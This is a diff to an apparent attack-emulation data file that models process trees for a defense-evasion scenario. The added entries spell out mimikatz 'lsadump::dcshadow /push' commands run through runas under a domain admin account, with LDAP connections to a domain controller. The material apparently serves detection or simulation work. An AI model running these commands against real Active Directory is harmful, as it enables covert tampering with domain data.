@@ -79,6 +79,16 @@ export const defenseEvasion2 = [
           // The push half, as a domain admin: registers the fake DC over LDAP, triggers replication, cleans up.
           {
             cmd: 'cmd.exe /c runas /user:{{domain}}\\{{admin}} "{{tools}}\\mimikatz.exe \\"lsadump::dcshadow /push\\" exit"',
+            as: "c",
+          },
+          {
+            cmd: 'runas  /user:{{domain}}\\{{admin}} "{{tools}}\\mimikatz.exe \\"lsadump::dcshadow /push\\" exit"',
+            parent: "c",
+          },
+          {
+            cmd: '{{tools}}\\mimikatz.exe "lsadump::dcshadow /push" exit',
+            // Secondary Logon (seclogon) creates it under the admin's logon, as in T1134.002 runas.
+            parent: "@svchost:netsvcs",
             user: "@admin",
             net: [
               ["@dc", 389],
